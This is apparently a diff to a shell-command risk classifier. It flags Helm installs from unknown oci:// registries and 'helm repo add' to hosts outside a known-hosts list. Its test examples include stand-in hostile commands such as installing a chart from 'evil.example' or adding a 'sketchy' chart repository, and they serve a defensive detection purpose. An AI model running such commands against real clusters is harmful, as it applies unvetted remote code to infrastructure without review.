@@ -8,9 +8,9 @@ from wispsh.vocab import secrets
 from wispsh.vocab.secrets import SECRET_NAME
 from wispsh.programs.delegate import hand_on
 from wispsh.programs.grammar import UNKNOWN
-from wispsh.programs.sources import (IMAGE_STORE_VARIABLES, full_image_name, image_registry, image_repository,
-                                     official_image, pinned_image, project_names, registry_is_known,
-                                     third_party_image)
+from wispsh.programs.sources import (IMAGE_STORE_VARIABLES, KNOWN_CHART_HOSTS, full_image_name, host_of,
+                                     image_registry, image_repository, official_image, pinned_image, project_names,
+                                     registry_is_known, third_party_image)
 from wispsh.programs.table import Grammar, On, Program, Row, When, emits, programs, verb
 from wispsh.support.lazyre import lazy_re, re
 
@@ -830,12 +830,29 @@ HELM_INSTALL_GRAMMAR = Grammar(values="fn", long_values=("values", "set", "set-s
 
 
 @emits({"helm.chart-url": ["helm install x https://evil.example/x-1.0.tgz",
-                           "helm upgrade --install x https://x.example/c.tgz"]})
+                           "helm upgrade --install x https://x.example/c.tgz", "helm install x oci://charts.example.net/app"]})
 def helm_chart(cmd, o) -> None:
     """A chart from a URL is fetched and applied unread."""
     for chart in o.operands[1:2]:
-        if chart.startswith(("http://", "https://")):
+        if chart.startswith(("http://", "https://")) or chart.startswith("oci://") and not registry_is_known(chart[6:]):
             cmd.does("run-fetched", "helm.chart-url", f"installs a chart fetched from {chart}, unread")
+
+
+@emits({"helm.repo.add-foreign": ["helm repo add sketchy https://charts.example.net", "helm repo add x http://10.0.0.5/c",
+                                  'helm repo add x "$URL"'],
+        "helm.repo.add": ["helm repo add bitnami https://charts.bitnami.com/bitnami",
+                          "helm repo add jetstack https://charts.jetstack.io"]})
+def helm_repo_add(cmd, o) -> None:
+    """`helm repo add NAME URL`: a chart source. A project's or vendor's own (sources.KNOWN_CHART_HOSTS) is
+    helm's configuration steered (high); any other is a source whose charts the next `helm install NAME/…`
+    applies to the cluster unread - as `pip config set index-url` to a foreign index is."""
+    url = o.operands[1] if len(o.operands) > 1 else ""
+    if url.startswith("oci://") and registry_is_known(url[6:]) or host_of(url) in KNOWN_CHART_HOSTS:
+        cmd.does("steer", "helm.repo.add", "helm repo add adds a chart source")
+        return
+    cmd.does("install-foreign", "helm.repo.add-foreign", f"helm repo add makes {url.replace(UNKNOWN, '…') or 'a URL'} "
+                                                         f"a chart source: what its charts run, later installs apply "
+                                                         f"unread")
 
 
 HELM = Program(
@@ -843,8 +860,7 @@ HELM = Program(
     grammar=Grammar(values="n", long_values=("namespace", "kube-context", "kubeconfig", "registry-config",
                                              "repository-config", "repository-cache")),
     verbs={
-        "repo": verb(verbs={"add": verb(rows=(Row("helm.repo.add", "steer", "helm repo add adds a chart source",
-                                                  examples=("helm repo add x https://charts.example",)),)),
+        "repo": verb(verbs={"add": verb(hook=helm_repo_add),
                             "update": verb(rows=(Row("helm.repo.update", "fetch", "helm repo update fetches the "
                                                      "chart indexes", examples=("helm repo update",)),))},
                      read_only=("list", "ls"),
